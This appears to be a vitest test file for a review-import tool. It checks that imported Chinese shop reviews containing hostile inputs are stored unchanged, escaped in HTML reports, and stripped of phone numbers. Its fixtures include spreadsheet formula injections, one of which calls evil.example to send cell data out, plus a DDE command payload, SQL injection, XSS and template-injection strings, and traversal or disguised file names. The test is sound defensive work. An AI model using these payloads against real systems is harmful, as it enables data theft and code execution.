import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { keyedHash } from '@voc/core/config';
import { writeWorkbook } from '@voc/ingest/testing';
import { beforeAll, expect, test } from 'vitest';
import type { TestDatabase } from '../support/database.ts';
import { type RunOutput, withDesk } from '../support/desk.ts';
import { testSecretKey } from '../support/voc.ts';

const desk = withDesk();

const columns = [
  '店铺',
  '评价ID',
  '商品ID',
  '商品标题',
  '评价时间',
  '评分',
  '评价内容',
  '商家回复',
  '买家昵称',
];
const row = (id: string, text: string, { title = '外套', reply = '', nick = '小*明' } = {}): string[] => [
  ...['旗舰店', id, '88', title, '2026-11-10 10:00:00', '1', text, reply, nick],
];
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const csv = (...rows: readonly string[][]): string =>
  rows.map((cells) => `${cells.map(quoted).join(',')}\n`).join('');
const escaped = (cell: string): string =>
  cell.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const sheetRow = (cells: readonly string[]): string =>
  cells.map((cell) => `<c t="inlineStr"><is><t>${escaped(cell)}</t></is></c>`).join('');

/** Words that other programs run, by the id of their review; all are stored as they were written. */
const said: Record<string, string> = {
  f1: '=HYPERLINK("http://evil.example/?"&A1,"点我")坏了',
  f2: "+cmd|' /C calc'!A0 坏了",
  f3: '@SUM(1) 坏了',
  f4: '＝1+1 坏了',
  s1: "'; DROP TABLE items; -- 坏了",
  s2: '100% 坏了_全是_线头',
  s3: '线头很多坏了\\',
  h1: '<img src=x onerror=alert(1)>拉链坏了',
  h2: '</script><script>alert(1)</script>拉链坏了',
  h3: "{{constructor.constructor('alert(1)')()}}拉链坏了",
  m1: '[点我](http://evil.example) ![](http://evil.example/x.png) <@all> @所有人 坏了',
};
const texts = Object.entries(said);
/** Names of files that other systems read otherwise; the longest has 250 bytes. */
const names = [
  '..\\..\\x.csv',
  'CON.csv',
  `${'长'.repeat(82)}.csv`,
  'a\u202Evsc.exe.csv',
  '=cmd.csv',
  '13800138000的订单.csv',
];

let database: TestDatabase;
let output: RunOutput;
beforeAll(async () => {
  database = await desk.database();
  const table = desk.write('words.csv', csv(columns, ...texts.map(([id, text]) => row(id, text))));
  const book = desk.write(
    'book.xlsx',
    writeWorkbook({
      sheets: [
        {
          name: '=1+1',
          rows: [columns, row('x1', '=1+1 坏了', { title: '=cmd|calc' })]
            .map((cells, at) => `<row r="${at + 1}">${sheetRow(cells)}</row>`)
            .join(''),
        },
      ],
    }),
  );
  const others = names.map((name, at) => desk.write(name, csv(columns, row(`n${at}`, `第${at}件坏了`))));
  const personal = desk.write(
    'nick.csv',
    csv(columns, row('p1', '坏了', { nick: '13912345678', reply: '亲,请联系13800138000' })),
  );
  ({ output } = await desk.run(database.url, [table, book, ...others, personal, '--out', 'out']));
});

test('formulas, statements, markup and mentions are stored as they were written, and nothing runs', async () => {
  expect(output.refused).toEqual([]);
  expect(output.imports[0]).toMatchObject({ read: texts.length, accepted: texts.length, quarantined: 0 });
  const items = await database.db.selectFrom('items').select(['external_id', 'text']).execute();
  const stored = new Map(items.map(({ external_id, text }) => [external_id, text]));
  for (const [id, text] of texts) expect(stored.get(id), id).toBe(text);
  expect(stored.get('x1')).toBe('=1+1 坏了');
  expect(items).toHaveLength(texts.length + 2 + names.length);
});

test('a report quotes markup as text', () => {
  const out = join(desk.folder, 'out');
  const files = readdirSync(out, { recursive: true, encoding: 'utf8' });
  const pages = files.filter((name) => name.endsWith('.html'));
  expect(pages.length).toBeGreaterThan(0);
  const written = pages.map((name) => readFileSync(join(out, name), 'utf8'));
  expect(written.join()).toMatch(/&lt;(?:img src=x|\/script)/);
  for (const page of written) expect(page).not.toMatch(/<img src=x|<script>alert|href="http:\/\/evil/);
});

test('a name is only a name: of a file, a sheet or a product', async () => {
  const told = output.imports.slice(2, 2 + names.length).map(({ file, accepted }) => [file, accepted]);
  expect(told).toEqual(names.map((name) => [name, 1]));
  const imports = await database.db.selectFrom('imports').select('file_name').execute();
  const kept = imports.map(({ file_name }) => file_name);
  for (const name of names.slice(0, -1)) expect(kept).toContain(name);
  expect(kept.filter((name) => name.includes('13800138000'))).toEqual([]);
});

test('a phone in place of a nickname is a keyed hash, and the reply of the shop is not kept', async () => {
  const { customer_hash, text } = await database.db
    .selectFrom('items')
    .select(['customer_hash', 'text'])
    .where('external_id', '=', 'p1')
    .executeTakeFirstOrThrow();
  expect([customer_hash, text]).toEqual([keyedHash(testSecretKey, 'customer', '13912345678'), '坏了']);
});
